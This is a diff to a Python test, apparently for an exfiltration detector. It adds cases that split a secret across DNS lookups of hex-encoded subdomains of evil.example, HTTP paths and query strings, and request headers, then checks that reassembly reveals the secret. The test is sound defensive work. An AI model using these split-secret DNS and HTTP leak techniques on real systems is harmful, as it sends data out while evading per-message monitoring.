@@ -71,7 +71,22 @@ def test_a_secret_cut_over_several_acts_is_pieced_together() -> None:
     greetings = [
         made(Channel.HTTP, "handshake", host=f"{part}.evil.example") for part in (SECRET[:half], SECRET[half:])
     ]
-    for acts in (mails, names, posts, raw, greetings):
+    counted = [
+        made(Channel.DNS, "resolve", name=f"{number}.{part.encode().hex()}.evil.example")
+        for number, part in enumerate((SECRET[:half], SECRET[half:]))
+    ]
+    queries, places = (
+        [
+            made(Channel.HTTP, "request", path=f"/{i}{mark}{part}")
+            for i, part in enumerate((SECRET[:half], SECRET[half:]))
+        ]
+        for mark in ("?d=", "/")
+    )
+    headers = [
+        made(Channel.HTTP, "request", path="/", headers={"a": "x", "b": part})
+        for part in (SECRET[:half], SECRET[half:])
+    ]
+    for acts in (mails, names, posts, raw, greetings, counted, queries, places, headers):
         assert not any(leaked(SECRET, outbound_text(act)) for act in acts)
         assert any(leaked(SECRET, text) for text in pieced_together(acts))
 
